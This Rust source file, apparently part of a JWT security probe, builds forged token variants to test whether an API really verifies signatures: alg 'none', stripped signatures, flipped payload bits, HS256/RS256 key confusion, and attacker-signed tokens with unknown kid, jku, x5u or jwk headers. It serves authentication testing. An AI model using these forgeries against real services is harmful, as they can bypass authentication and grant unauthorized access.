//! The token variants: the baseline token re-encoded unsigned, stripped of
//! its signature, one payload bit flipped, HMAC-signed with the tenant's
//! public key (key confusion), or signed by the probe's own key under an
//! unknown `kid` or one a `jku`, `x5u` or `jwk` header points at.

use serde_json::{Value, json};

use super::{PROBE_KID, ProbeKeys, VariantError, encode, hmac_sign, rsa_public_pem};
use crate::jose::{self, Algorithm, Object, Part};
use crate::probe::Check;

/// The claims whose value a bit flip may change without a reason for an
/// API that skips signatures to refuse: identifiers it does not check.
const FLIPPABLE: [&str; 3] = ["sub", "azp", "jti"];

/// Whether [`Check::PayloadBitFlipped`] can alter this token.
pub fn flippable(token: &str) -> bool {
    flip_payload(token).is_some()
}

pub(super) fn flip_payload(token: &str) -> Option<String> {
    let mut parts = token.split('.');
    let (header, payload, signature) = (parts.next()?, parts.next()?, parts.next()?);
    let mut bytes = jose::decode_segment(payload, Part::Payload).ok()?;
    let claims = jose::parse_object(&bytes, Part::Payload).ok()?;
    let (name, value) = FLIPPABLE
        .iter()
        .find_map(|n| Some((*n, claims.get(*n)?.as_str()?)))?;
    let needle = format!("\"{name}\":");
    let start = find(&bytes, needle.as_bytes())? + needle.len();
    // The value's last alphanumeric byte: bit 0 of an ASCII letter or digit
    // flips to another printable character that is never `"` or `\`.
    let open = start + bytes[start..].iter().position(|&b| b == b'"')? + 1;
    let len = value.len();
    let at = (open..open + len)
        .rev()
        .find(|&i| bytes.get(i).is_some_and(u8::is_ascii_alphanumeric))?;
    bytes[at] ^= 1;
    jose::parse_object(&bytes, Part::Payload).ok()?;
    Some(format!("{header}.{}.{signature}", jose::b64(&bytes)))
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// The baseline token with one thing changed (the token variants).
pub(super) fn alter(check: Check, token: &str, keys: &ProbeKeys) -> Result<String, VariantError> {
    use Check::*;
    let not_jwt = |why: &str| VariantError::NotAJwt(why.to_owned());
    let mut parts = token.split('.');
    let (Some(header_b64), Some(payload_b64), Some(_), None) =
        (parts.next(), parts.next(), parts.next(), parts.next())
    else {
        return Err(not_jwt("not three segments"));
    };
    let jwt = crate::dangerous::decode_unverified(token).map_err(|e| not_jwt(&e.to_string()))?;
    let mut header = jwt.header.clone();
    let claims = &jwt.claims;
    let attacker = |extra: Object, kid: &str| -> Result<String, VariantError> {
        let key = keys.attacker.clone().with_kid(kid);
        Ok(key.sign_jwt(Algorithm::RS256, &extra, claims)?)
    };
    let typ = |mut extra: Object| {
        extra.insert("typ".into(), json!("JWT"));
        extra
    };
    let probe_jwks =
        || json!({"keys": [Value::Object(keys.attacker.clone().with_kid(PROBE_KID).public_jwk())]});
    match check {
        AlgNone => {
            header.insert("alg".into(), json!("none"));
            Ok(format!("{}.{payload_b64}.", encode(&header)))
        }
        SignatureStripped => Ok(format!("{header_b64}.{payload_b64}.")),
        PayloadBitFlipped => flip_payload(token).ok_or_else(|| not_jwt("no claim to flip")),
        KeyConfusion => {
            let pem = keys
                .tenant_key_pem
                .as_ref()
                .ok_or(VariantError::NeedsTenantKey(check))?;
            header.insert("alg".into(), json!("HS256"));
            let input = format!("{}.{payload_b64}", encode(&header));
            Ok(hmac_sign(pem.as_bytes(), &input))
        }
        UnknownKid => attacker(typ(Object::new()), "auth0-tok-probe-unknown-kid"),
        JkuHeader => {
            let mut extra = typ(Object::new());
            let jwks = serde_json::to_vec(&probe_jwks()).expect("JSON");
            extra.insert(
                "jku".into(),
                json!(format!("data:application/json;base64,{}", b64_std(&jwks))),
            );
            attacker(extra, PROBE_KID)
        }
        X5uHeader => {
            let mut extra = typ(Object::new());
            let pem = rsa_public_pem(&keys.attacker.public_jwk()).unwrap_or_default();
            extra.insert(
                "x5u".into(),
                json!(format!(
                    "data:application/x-pem-file;base64,{}",
                    b64_std(pem.as_bytes())
                )),
            );
            attacker(extra, PROBE_KID)
        }
        JwkHeader => {
            let mut extra = typ(Object::new());
            extra.insert(
                "jwk".into(),
                Value::Object(keys.attacker.clone().with_kid(PROBE_KID).public_jwk()),
            );
            attacker(extra, PROBE_KID)
        }
        other => unreachable!("{other} does not alter the token"),
    }
}

fn b64_std(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
